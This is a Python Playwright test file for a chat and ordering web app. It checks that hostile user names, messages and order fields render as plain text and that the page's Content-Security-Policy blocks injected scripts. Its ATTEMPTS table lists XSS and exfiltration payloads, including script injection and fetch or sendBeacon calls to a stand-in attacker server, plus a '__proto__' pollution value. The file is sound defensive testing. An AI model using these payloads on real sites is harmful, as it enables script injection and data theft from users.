"""The page in a real browser, among people, rooms and orders whose names and texts mean harm."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Browser, ViewportSize, expect
from yarl import URL

from towpath.testkit.client import WireClient
from towpath.testkit.eventually import eventually
from towpath.testkit.processes import Processes, free_port
from towpath.testkit.rabbitmq import Rabbit
from towpath.testkit.system import LOAD_RATES, System
from towpath.testkit.visitor import Visitor
from towpath.testkit.witness import Witness, layout_faults, layout_faults_of_each
from towpath.tools.rabbitmq_node import RabbitControl

from .hostile import ELSEWHERE_HOST, as_room, as_user, hostile_texts

RESULTS = Path(__file__).parents[2] / "test-results"
ROOM = "quay"
PHONE = ViewportSize(width=390, height=844)
DESKTOP = ViewportSize(width=1360, height=900)


@pytest.fixture(scope="module")
def processes(shared_processes: Processes) -> Processes:
    return shared_processes


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def module_system(
    rabbitmq_node: RabbitControl, shared_processes: Processes, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[System]:
    """A system whose limits the many people of one address do not reach."""
    async with Rabbit.on(rabbitmq_node) as rabbitmq:
        system = System(rabbitmq, shared_processes, tmp_path_factory.mktemp("hostile"), **LOAD_RATES)
        await system.start()
        yield system


@pytest.fixture(scope="module")
def system(module_system: System) -> System:
    return module_system


@dataclass
class Elsewhere:
    """A stranger's server.

    Attributes:
        url: Where it listens.
        asked: The paths that it was asked for.
    """

    url: str
    asked: list[str] = field(default_factory=list)


@pytest.fixture
async def elsewhere() -> AsyncIterator[Elsewhere]:
    port = free_port()
    found = Elsewhere(f"http://{ELSEWHERE_HOST}:{port}/")

    async def answer(request: web.Request) -> web.Response:
        found.asked.append(request.path)
        return web.Response(text="window.hostile=1", headers={"Access-Control-Allow-Origin": "*"})

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, ELSEWHERE_HOST, port).start()
    yield found
    await runner.cleanup()


@asynccontextmanager
async def watched(
    browser: Browser, page_url: str, system: System, user: str
) -> AsyncIterator[tuple[Visitor, Witness]]:
    """A user at the page, and a witness of what the page does."""
    hosts = {f"{URL(url).host}:{URL(url).port}" for url in (page_url, *system.urls)}
    async with (
        Visitor.arrive(browser, page_url) as visitor,
        Witness.watch(visitor.page, hosts=hosts) as witness,
    ):
        await visitor.page.reload()
        await enters(visitor, user)
        yield visitor, witness


async def enters(visitor: Visitor, user: str) -> None:
    await visitor.get("name").fill(user)
    await visitor.get("sign-in").click()
    await expect(visitor.get("connection-state")).to_have_attribute("data-state", "open")


# -- what the strangers do


async def strangers_act(system: System, page_url: str, texts: dict[str, str], victim: str) -> dict[str, int]:
    """Each text in each place that a stranger can fill; returns how many were taken, by place."""
    taken: dict[str, int] = {}

    def count(place: str, answer: dict[str, Any]) -> bool:
        is_taken: bool = answer["action"] != "error"
        taken[place] = taken.get(place, 0) + is_taken
        return is_taken

    async with system.connect(victim) as me, aiohttp.ClientSession(page_url) as backend:
        for number, text in enumerate(texts.values()):
            user, room = as_user(text) or f"user {number}", as_room(text) or f"room {number}"
            async with system.connect(user, gateway=number % 2) as stranger:
                count("a user", await stranger.request("chat.join", {"room": ROOM}))
                await stranger.request("chat.typing", {"room": ROOM})
                count("a message", await stranger.request("chat.send", {"room": ROOM, "text": text}))
                count("a message to one", await stranger.request("chat.direct", {"to": victim, "text": text}))
                titled = {"title": text[:200]} if as_room(text) else {}
                if count("a room", await stranger.request("chat.create", {"room": room, **titled})):
                    assert (await me.request("chat.join", {"room": room}))["action"] == "chat.join.ok"
                closed = {"room": f"{number} {room[:20]}", "private": True, **titled}
                if count("a private room", await stranger.request("chat.create", closed)):
                    invited = {"room": closed["room"], "user": victim}
                    count("an invitation", await stranger.request("chat.invite", invited))
            await orders_of(me, backend, number, text, victim, count)
    return taken


async def orders_of(
    me: WireClient, backend: aiohttp.ClientSession, number: int, text: str, victim: str, count: Any
) -> None:
    """An order with the text as its article, one with it as its detail, one with it deep in its detail."""
    item = {"sku": text[:64], "quantity": 1, "unit_price": "1.00"}
    placed = await me.request("order.submit", {"order_id": f"O-{number}", "items": [item]})
    if count("an article", placed):
        reason = {"order_id": f"O-{number}", "reason": text[:500]}
        count("a reason", await me.request("order.cancel", reason))
    for name, detail in (("D", text), ("J", {text[:60]: [text, {"__proto__": text}]})):
        event = {"order_id": f"{name}-{number}", "user_id": victim, "detail": detail}
        async with backend.post("/demo/events", json={"action": "order.paid", "data": event}) as answer:
            count("a detail", {"action": "ok" if answer.status == 200 else "error"})
            assert answer.status in (200, 400)


# -- the tests


@pytest.mark.timeout(600)
async def test_hostile_names_and_texts_run_nothing_and_break_no_layout(
    browser: Browser, page_url: str, system: System, elsewhere: Elsewhere
) -> None:
    texts = hostile_texts(elsewhere.url)
    async with watched(browser, page_url, system, "ana") as (ana, witness):
        await ana.joins(ROOM)
        taken = await strangers_act(system, page_url, texts, "ana")
        RESULTS.mkdir(exist_ok=True)
        (RESULTS / "hostile.txt").write_text(f"hostile strings: {len(texts)}; taken by place: {taken}\n")
        assert taken["a message"] >= len(texts) - 1  # U+0000 is in none, but a service may refuse one
        faults = await reads_the_room(ana, texts, "pushed")
        await ana.page.reload()  # the visit goes on
        await expect(ana.get("connection-state")).to_have_attribute("data-state", "open")
        faults += await reads_the_room(ana, texts, "loaded")
        faults += await looks_around(ana)
        assert await witness.findings() == []
        assert faults == []
        assert elsewhere.asked == []


async def has_all(ana: Visitor, messages: int) -> bool:
    """Whether all messages of the open room are there; asks for earlier ones."""
    await ana.page.evaluate("document.querySelector('[data-testid=load-older]')?.click()")
    return await ana.get("message").count() == messages


async def reads_the_room(ana: Visitor, texts: dict[str, str], how: str) -> list[str]:
    """Every text is there as it was sent; returns what is wrong with the layout."""
    await ana.get(f"room-{ROOM}").click()
    await expect(ana.get("room-title")).to_contain_text(ROOM)
    await eventually(lambda: has_all(ana, len(texts)))
    written = await ana.page.get_by_test_id("text").all_text_contents()
    assert sorted(written) == sorted(texts.values())
    await ana.page.screenshot(path=RESULTS / f"hostile-{how}.png")
    await ana.get("message").filter(has_text=texts["combining marks"]).scroll_into_view_if_needed()
    await ana.page.screenshot(path=RESULTS / f"hostile-{how}-marks.png")
    return [f"{how}: {fault}" for fault in await layout_faults(ana.page)]


async def looks_around(ana: Visitor) -> list[str]:
    """Open everything that has a name or text of others; returns what is wrong with the layout."""
    faults: list[str] = []

    async def check(place: str) -> None:
        await ana.page.screenshot(path=RESULTS / f"hostile-{place.replace(' ', '-')}.png")
        faults.extend(f"{place}: {fault}" for fault in await layout_faults(ana.page))

    for dialog, opened_by in {
        "members": "show-members",
        "switcher": "find-room",
        "leave": "leave-room",
    }.items():
        await ana.get(opened_by).click()
        await expect(ana.page.locator("dialog[open]")).to_be_visible()
        await check(dialog)
        await ana.page.keyboard.press("Escape")
        await expect(ana.page.locator("dialog[open]")).to_have_count(0)
    # Every second one: all names are in the list anyway, and what a room shows of its name does not depend on others.
    faults += await layout_faults_of_each(
        ana.page, ".rooms li:nth-child(odd) button", changes=".conversation"
    )
    await check("a direct room")
    await ana.get("rooms").scroll_into_view_if_needed()
    await check("the list")
    await ana.page.set_viewport_size(PHONE)
    await check("a room on a phone")
    await ana.page.get_by_role("button", name="Back to the list").click()
    await check("the list on a phone")
    await ana.get("tab-orders").click()
    await check("the orders on a phone")
    return faults


@pytest.mark.timeout(600)
async def test_hostile_words_typed_into_every_field_are_shown_or_refused_as_text(
    browser: Browser, page_url: str, system: System, elsewhere: Elsewhere
) -> None:
    """A refusal quotes what was typed: the answers of services and of the demo become notices and problems."""
    faults: list[str] = []
    async with watched(browser, page_url, system, "bea") as (bea, witness):
        await bea.joins("shore")
        for number, (name, text) in enumerate(hostile_texts(elsewhere.url).items()):
            for field_, button in TYPED[number % 3 :: 3]:
                await bea.get(field_).fill(text)
                await bea.get(button).click()
            await bea.says(text)
            await bea.get("find-room").click()
            await bea.get("switcher-input").fill(text)
            faults += [f"{name}, switcher: {fault}" for fault in await layout_faults(bea.page)]
            await bea.page.keyboard.press("Escape")
            faults += [f"{name}: {fault}" for fault in await layout_faults(bea.page)]
        await bea.page.screenshot(path=RESULTS / "hostile-typed.png")
        assert await witness.findings() == []
        assert faults == []
        assert elsewhere.asked == []


#: A field and the button that sends it.
TYPED = (
    ("backend-detail", "backend-publish"),
    ("backend-user", "backend-publish"),
    ("backend-order", "backend-publish"),
    ("order-amount", "submit-order"),
    ("room-input", "join-room"),
    ("direct-to", "direct-open"),
)


@pytest.mark.timeout(600)
async def test_a_user_with_a_hostile_name_has_a_page_like_any_other(
    browser: Browser, page_url: str, system: System, elsewhere: Elsewhere
) -> None:
    faults: list[str] = []
    names = [
        name for text in hostile_texts(elsewhere.url).values() if (name := as_user(text)) and name.strip()
    ]
    async with watched(browser, page_url, system, "cyd") as (page, witness):
        for size in (DESKTOP, PHONE):
            await page.page.set_viewport_size(size)
            for name in names[::2] if size == DESKTOP else names[1::6]:
                await page.get("menu").click()
                await page.get("sign-out").click()
                await enters(page, name)
                faults += [f"{name!a}: {fault}" for fault in await layout_faults(page.page)]
        await page.page.screenshot(path=RESULTS / "hostile-me.png")
        assert await witness.findings() == []
        assert faults == []
        assert elsewhere.asked == []


#: An attempt of an injected script → the directive that stops it. `elsewhere` is a stranger's server.
ATTEMPTS = {
    "document.body.append(Object.assign(document.createElement('script'), {src: elsewhere + 'x.js'}))": (
        "require-trusted-types-for"
    ),
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.hostile=1>')": (
        "require-trusted-types-for"
    ),
    "document.body.innerHTML = '<script>window.hostile=1</script>'": "require-trusted-types-for",
    "trustedTypes.createPolicy('any', {createHTML: (text) => text})": "trusted-types",
    "new Image().src = elsewhere + 'x.png'": "img-src",
    "fetch(elsewhere + 'x').catch(() => {})": "connect-src",
    "new WebSocket(elsewhere.replace('http', 'ws') + 'x')": "connect-src",
    "navigator.sendBeacon(elsewhere + 'x', 'x')": "connect-src",
    "document.head.append(Object.assign(document.createElement('base'), {href: elsewhere}))": "base-uri",
    "document.head.append(Object.assign(document.createElement('style'), {textContent: '*{display:none}'}))": (
        "style-src-elem"
    ),
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: elsewhere}))": (
        "style-src-elem"
    ),
    "document.body.setAttribute('style', 'display:none')": "style-src-attr",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: elsewhere + 'x'}))": "frame-src",
    "document.body.append(Object.assign(document.createElement('object'), {data: elsewhere + 'x'}))": (
        "require-trusted-types-for"
    ),
    "import(elsewhere + 'x.js').catch(() => {})": "script-src-elem",
    "{const form = Object.assign(document.createElement('form'), {action: elsewhere, method: 'post'});"
    "document.body.append(form); form.submit()}": "form-action",
}

ATTEMPT = """async (elsewhere) => {
    const refused = new Promise((resolve) => {
        const once = (event) => resolve(event.effectiveDirective);
        document.addEventListener("securitypolicyviolation", once, {once: true});
        setTimeout(resolve, 3000, "nothing refused it");
    });
    try { ATTEMPT } catch (error) { if (!(error instanceof TypeError)) throw error; }
    return refused;
}"""


async def test_an_injected_script_can_neither_run_more_nor_send_anything_away(
    browser: Browser, page_url: str, system: System, elsewhere: Elsewhere
) -> None:
    """The policy is alive: each attempt is refused by the directive that is there for it."""
    async with watched(browser, page_url, system, "dee") as (dee, _):
        for attempt, directive in ATTEMPTS.items():
            refused = await dee.page.evaluate(ATTEMPT.replace("ATTEMPT", attempt), elsewhere.url)
            assert refused == directive, attempt
        assert await dee.page.evaluate("window.hostile") is None
        assert elsewhere.asked == []
